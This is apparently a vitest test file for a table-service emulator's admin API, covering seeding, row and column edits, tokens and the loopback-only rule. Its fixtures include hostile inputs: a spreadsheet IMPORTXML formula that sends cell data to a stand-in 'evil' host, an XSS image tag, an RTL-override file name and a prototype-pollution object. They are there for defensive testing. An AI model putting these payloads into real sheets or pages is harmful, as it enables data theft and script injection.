// The admin route over real HTTP: state read/reset, seeding with hostile values, direct row and column edits,
// tokens, members, the loopback-only rule and the data file.

import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { networkInterfaces, tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { longText } from '../../../emulators/table-service/generate.js';
import { isLoopbackAddress } from '../../../emulators/table-service/http-util.js';
import { createTableService, type TableService } from '../../../emulators/table-service/server.js';
import { positionBetween } from '../../../emulators/table-service/store.js';
import type { EmulatorState, JsonValue } from '../../../emulators/table-service/types.js';
import { call, DEALS, errorOf, type RowJson } from './helpers.js';

let svc: TableService;
let alice: string;

beforeAll(async () => {
  svc = await createTableService();
  alice = svc.keys.u_alice as string;
});
afterAll(() => svc.close());
beforeEach(() => svc.admin.reset('sample'));

function table(state: EmulatorState, appId: string, tableId: string) {
  const t = state.apps.find((a) => a.id === appId)?.tables.find((x) => x.id === tableId);
  if (!t) throw new Error(`no ${tableId}`);
  return t;
}

describe('the sample data', () => {
  it('has the documented accounts, users, apps and tables', async () => {
    const s = await svc.admin.state();
    expect(s.accounts.map((a) => a.id)).toEqual(['acc_acme', 'acc_globex']);
    expect(s.users.map((u) => u.id)).toEqual(['u_alice', 'u_bob', 'u_dave', 'u_erin', 'u_carol', 'u_frank']);
    expect(s.apps.map((a) => [a.id, a.accountId])).toEqual([
      ['ta_crm', 'acc_acme'],
      ['ta_ops', 'acc_acme'],
      ['ta_globex', 'acc_globex'],
    ]);
    expect(s.apps[1]?.name).toBe('<img src=x onerror=alert(1)> Ops');
    const deals = table(s, 'ta_crm', 'tbl_deals');
    expect(deals.rows).toHaveLength(25);
    expect(deals.columns.map((c) => c.id)).toEqual([
      'title',
      'status',
      'amount',
      'won',
      'closeDate',
      'tags',
      'meta',
      'notes',
      'old_stage',
    ]);
    expect(deals.rows.map((r) => r.indexId)).toEqual(Array.from({ length: 25 }, (_, i) => i + 1));
    const contacts = table(s, 'ta_crm', 'tbl_contacts');
    expect(contacts.rows).toHaveLength(10);
    expect(contacts.rows.map((r) => r.contactId)).toContain('00123');
  });

  it('is the same on every start (ids included)', async () => {
    const other = await createTableService();
    try {
      expect(await other.admin.state()).toEqual(await svc.admin.state());
    } finally {
      await other.close();
    }
  });
});

describe('reset and state', () => {
  it('resets to empty, to sample, and to a given state', async () => {
    await svc.admin.reset('empty');
    expect(await svc.admin.state()).toEqual({ version: 1, accounts: [], users: [], apps: [] });
    await svc.admin.reset('sample');
    const sample = await svc.admin.state();
    const deals = table(sample, 'ta_crm', 'tbl_deals');
    deals.rows = deals.rows.slice(0, 2);
    await svc.admin.reset(sample);
    const r = await call(svc.url, 'GET', `/public${DEALS}/rows?limit=100`, { key: alice });
    expect((r.json as { rows: RowJson[] }).rows.map((x) => x.id)).toEqual(deals.rows.map((x) => x.id));
  });

  it('refuses a state without the right shape', async () => {
    await expect(svc.admin.reset({ version: 2 } as unknown as EmulatorState)).rejects.toThrow(/400/);
  });
});

describe('seeding a table', () => {
  it('creates N rows x M columns of every type with realistic and hostile values', async () => {
    const seeded = await svc.admin.seedTable({
      appId: 'ta_crm',
      tableId: 'tbl_seed',
      name: 'Seeded',
      rows: 60,
      columns: 8,
    });
    expect(seeded.rowCount).toBe(60);
    expect(seeded.columns.map((c) => c.type)).toEqual([
      'text',
      'text',
      'number',
      'checkbox',
      'date',
      'multiSelect',
      'json',
      'text',
    ]);
    const r = await call(svc.url, 'GET', '/public/tableApps/ta_crm/tables/tbl_seed/rows?limit=100', {
      key: alice,
    });
    const rows = (r.json as { rows: RowJson[] }).rows;
    expect(rows).toHaveLength(60);
    const texts = rows.flatMap((row) => [row.title, row.c01_text, row.c07_text]);
    for (const hostile of [
      '=IMPORTXML("http://evil/?"&A1,"//a")',
      '+cmd',
      '-1+1',
      '@SUM(A1)',
      '\t=1+1',
      '00123',
      '2024-01-05',
      'TRUE',
      '50%',
      'Zoë 🚀 naïve café',
      '\u202Egnp.exe',
      'bell\u0007null\u0000esc\u001b',
    ]) {
      expect(texts).toContain(hostile);
    }
    expect(texts.some((t) => typeof t === 'string' && t.startsWith('\r'))).toBe(true);
    // Very long text: exactly the column's max, for the 256 title and the 50000 notes column.
    expect(texts).toContain(longText(256));
    expect(texts).toContain(longText(50000));
    // __proto__ / constructor members survive as data, and nothing is polluted.
    const metas = rows.map((row) => row.c06_json).filter((m): m is Record<string, JsonValue> => !!m);
    const evil = metas.find((m) => Object.keys(m).includes('__proto__'));
    expect(evil && Object.getOwnPropertyDescriptor(evil, '__proto__')?.value).toEqual({ polluted: true });
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    // Every value has its column's type.
    for (const row of rows) {
      expect(row.c02_number === null || typeof row.c02_number === 'number').toBe(true);
      expect(row.c03_checkbox === null || typeof row.c03_checkbox === 'boolean').toBe(true);
      expect(row.c04_date === null || /^\d{4}-\d{2}-\d{2}$/.test(row.c04_date as string)).toBe(true);
      expect(row.c05_multiSelect === null || Array.isArray(row.c05_multiSelect)).toBe(true);
    }
  });

  it('replaces an existing table and seeds without hostile values when asked', async () => {
    await svc.admin.seedTable({ appId: 'ta_crm', tableId: 'tbl_seed', rows: 30, columns: 3, hostile: false });
    const t = table(await svc.admin.state(), 'ta_crm', 'tbl_seed');
    expect(t.rows).toHaveLength(30);
    expect(t.columns).toHaveLength(3);
    expect(t.rows.some((r) => typeof r.title === 'string' && /^[=+\-@]/.test(r.title))).toBe(false);
  });
});

describe('direct row edits (other people, rows removed on the service)', () => {
  it('edits a row as bob: lMod moves on, lModBy is bob, the API shows it', async () => {
    const before = table(await svc.admin.state(), 'ta_crm', 'tbl_deals').rows[0] as RowJson;
    const edited = await svc.admin.editRow(
      'ta_crm',
      'tbl_deals',
      before.id,
      { status: 'lost', amount: 7 },
      'u_bob',
    );
    expect(edited).toMatchObject({ status: 'lost', amount: 7, lModBy: 'u_bob' });
    expect(Date.parse(edited.lMod)).toBeGreaterThan(Date.parse(before.lMod));
    const r = await call(svc.url, 'GET', `/public${DEALS}/rows/${before.id}`, { key: alice });
    expect(r.json).toMatchObject({ lMod: edited.lMod, lModBy: 'u_bob' });
  });

  it('validates admin edits like the API', async () => {
    const row = table(await svc.admin.state(), 'ta_crm', 'tbl_deals').rows[0] as RowJson;
    await expect(svc.admin.editRow('ta_crm', 'tbl_deals', row.id, { amount: 'x' })).rejects.toThrow(/400/);
  });

  it('creates a row as carol in her app', async () => {
    const row = await svc.admin.createRow(
      'ta_globex',
      'tbl_inventory',
      { title: 'Gadget', qty: 3 },
      'u_carol',
    );
    expect(row).toMatchObject({ title: 'Gadget', qty: 3, createdBy: 'u_carol', indexId: 6 });
  });

  it('deletes a row: the API answers 404 and the listing loses it', async () => {
    const row = table(await svc.admin.state(), 'ta_crm', 'tbl_deals').rows[3] as RowJson;
    await svc.admin.deleteRow('ta_crm', 'tbl_deals', row.id);
    expect((await call(svc.url, 'GET', `/public${DEALS}/rows/${row.id}`, { key: alice })).status).toBe(404);
    const list = await call(svc.url, 'GET', `/public${DEALS}/rows?limit=100`, { key: alice });
    expect((list.json as { rows: RowJson[] }).rows.map((r) => r.id)).not.toContain(row.id);
    // indexIds are never reused.
    const created = await call(svc.url, 'POST', `/public${DEALS}/rows`, {
      key: alice,
      body: { title: 'after delete' },
    });
    expect((created.json as RowJson).indexId).toBe(26);
  });
});

describe('direct column changes', () => {
  it('adds, renames and deletes a column', async () => {
    const added = await svc.admin.addColumn('ta_crm', 'tbl_deals', {
      id: 'region',
      name: 'Region',
      type: 'text',
      max: 20,
    });
    expect(added).toMatchObject({ id: 'region', type: 'text', config: { max: 20 }, deleted: false });
    let rows = (await call(svc.url, 'GET', `/public${DEALS}/rows?limit=1`, { key: alice })).json as {
      rows: RowJson[];
    };
    expect(rows.rows[0]?.region).toBeNull();
    await svc.admin.renameColumn('ta_crm', 'tbl_deals', 'region', 'Sales region');
    await svc.admin.deleteColumn('ta_crm', 'tbl_deals', 'status');
    const t = (await call(svc.url, 'GET', `/public${DEALS}`, { key: alice })).json as {
      columns: { id: string; name: string; deleted: boolean }[];
    };
    expect(t.columns.find((c) => c.id === 'region')?.name).toBe('Sales region');
    expect(t.columns.find((c) => c.id === 'status')?.deleted).toBe(true);
    rows = (await call(svc.url, 'GET', `/public${DEALS}/rows?limit=1`, { key: alice })).json as {
      rows: RowJson[];
    };
    expect(rows.rows[0]).not.toHaveProperty('status');
    const r = await call(svc.url, 'PATCH', `/public${DEALS}/rows/${rows.rows[0]?.id}`, {
      key: alice,
      body: { status: 'x' },
    });
    expect(errorOf(r).code).toBe('deleted_column');
  });

  it('refuses a fixed field name as a column id', async () => {
    await expect(
      svc.admin.addColumn('ta_crm', 'tbl_deals', { id: 'lMod', name: 'x', type: 'text' }),
    ).rejects.toThrow(/400/);
  });
});

describe('tokens and members', () => {
  it('issues a working token for any user, and an expired one on request', async () => {
    const bob = await svc.admin.issueToken('u_bob');
    expect((await call(svc.url, 'GET', '/public/user/me', { key: bob })).json).toMatchObject({
      userId: 'u_bob',
    });
    const expired = await svc.admin.issueToken('u_bob', { expired: true });
    expect((await call(svc.url, 'GET', '/public/user/me', { key: expired })).status).toBe(401);
    const payload = JSON.parse(Buffer.from(bob.split('.')[1] as string, 'base64url').toString()) as Record<
      string,
      unknown
    >;
    expect(payload).toMatchObject({ sub: 'u_bob', accountId: 'acc_acme' });
    expect(typeof payload.iat).toBe('number');
    expect(payload.exp as number).toBeGreaterThan(payload.iat as number);
  });

  it('expires a token on request, without waiting: only that token stops working', async () => {
    const doomed = await svc.admin.issueToken('u_bob');
    const other = await svc.admin.issueToken('u_bob', { ttlSeconds: 3600 });
    expect((await call(svc.url, 'GET', '/public/user/me', { key: doomed })).status).toBe(200);
    await svc.admin.expireToken(doomed);
    const refused = await call(svc.url, 'GET', '/public/user/me', { key: doomed });
    expect(refused.status).toBe(401);
    expect(refused.json).toMatchObject({ error: { code: 'token_expired' } });
    expect((await call(svc.url, 'GET', '/public/user/me', { key: other })).status).toBe(200);
    await expect(svc.admin.expireToken('not.a.token')).rejects.toThrow(/400/);
  });

  it('adds generated members with some invited', async () => {
    const users = await svc.admin.addMembers('acc_globex', 30);
    expect(users).toHaveLength(30);
    expect(users.filter((u) => u.activationStatus === 'invited')).toHaveLength(4);
    const token = await svc.admin.issueToken(users[0]?.id as string);
    const r = await call(svc.url, 'GET', '/public/user/people?limit=100', { key: token });
    expect((r.json as { users: unknown[] }).users).toHaveLength(32);
  });
});

describe('the admin route', () => {
  it('knows loopback addresses', () => {
    for (const a of ['127.0.0.1', '127.8.9.10', '::1', '::ffff:127.0.0.1'])
      expect(isLoopbackAddress(a)).toBe(true);
    for (const a of ['10.0.0.1', '192.0.2.2', '::ffff:10.0.0.1', 'fe80::1', undefined])
      expect(isLoopbackAddress(a)).toBe(false);
  });

  const external = Object.values(networkInterfaces())
    .flat()
    .find((i) => i && i.family === 'IPv4' && !i.internal)?.address;

  it.runIf(external)('answers 403 to a peer that is not loopback, while the API works for it', async () => {
    const open = await createTableService({ host: '0.0.0.0' });
    try {
      const port = new URL(open.url).port;
      const base = `http://${external}:${port}`;
      const r = await call(base, 'GET', '/__admin/state');
      expect(r.status).toBe(403);
      expect(errorOf(r).code).toBe('forbidden');
      expect((await call(base, 'GET', '/public/user/me', { key: open.keys.u_alice })).status).toBe(200);
      expect((await call(open.url, 'GET', '/__admin/state')).status).toBe(200);
    } finally {
      await open.close();
    }
  });

  it('answers 404 and 405 on its own routes', async () => {
    expect((await call(svc.url, 'GET', '/__admin/nope')).status).toBe(404);
    const r = await call(svc.url, 'DELETE', '/__admin/state');
    expect(r.status).toBe(405);
    expect(r.headers.get('allow')).toBe('GET, POST');
  });
});

describe('the data file', () => {
  it('saves every change and loads it on the next start, keeping keys valid', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'table-emulator-'));
    const dataFile = path.join(dir, 'state.json');
    try {
      const first = await createTableService({ dataFile });
      const created = await call(first.url, 'POST', `/public${DEALS}/rows`, {
        key: first.keys.u_alice,
        body: { title: 'kept' },
      });
      expect(created.status).toBe(201);
      await first.close();
      expect(readFileSync(dataFile, 'utf8')).toContain('"kept"');
      const second = await createTableService({ dataFile });
      try {
        const id = (created.json as RowJson).id;
        const r = await call(second.url, 'GET', `/public${DEALS}/rows/${id}`, { key: first.keys.u_alice });
        expect(r.status).toBe(200);
        expect(r.json).toMatchObject({ title: 'kept' });
      } finally {
        await second.close();
      }
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('moving a row', () => {
  it('changes the listing order (position), not indexId', async () => {
    const rows = table(await svc.admin.state(), 'ta_crm', 'tbl_deals').rows;
    const last = rows[24] as RowJson;
    const moved = await svc.admin.moveRow('ta_crm', 'tbl_deals', last.id, (rows[1] as RowJson).id);
    expect(moved.indexId).toBe(25);
    const list = (await call(svc.url, 'GET', `/public${DEALS}/rows?limit=3`, { key: alice })).json as {
      rows: RowJson[];
    };
    expect(list.rows.map((r) => r.indexId)).toEqual([1, 25, 2]);
    const created = await call(svc.url, 'POST', `/public${DEALS}/rows`, {
      key: alice,
      body: { title: 'end' },
    });
    const all = (await call(svc.url, 'GET', `/public${DEALS}/rows?limit=100`, { key: alice })).json as {
      rows: RowJson[];
    };
    expect(all.rows.at(-1)?.id).toBe((created.json as RowJson).id);
    await svc.admin.moveRow('ta_crm', 'tbl_deals', last.id, null);
    const again = (await call(svc.url, 'GET', `/public${DEALS}/rows?limit=100`, { key: alice })).json as {
      rows: RowJson[];
    };
    expect(again.rows.at(-1)?.id).toBe(last.id);
  });

  it('finds keys between any two keys', () => {
    for (const [a, b] of [
      ['', 'a00000000sg'],
      ['a00000000sg', 'a00000001kw'],
      ['a1', 'a2'],
      ['az', 'b'],
      ['a00000000sg', 'a00000000sh'],
    ] as const) {
      const mid = positionBetween(a, b);
      expect(mid > a && mid < b, `${a} < ${mid} < ${b}`).toBe(true);
    }
    // Nothing sorts between a key and the same key followed by zeros.
    expect(() => positionBetween('', '0')).toThrow();
    expect(() => positionBetween('a1', 'a10')).toThrow();
  });
});

describe('start-up options', () => {
  it('takes seed: "empty" as an alias of data: "empty"', async () => {
    const empty = await createTableService({ seed: 'empty' });
    try {
      expect((await empty.admin.state()).apps).toEqual([]);
      expect(empty.keys).toEqual({});
    } finally {
      await empty.close();
    }
  });
});
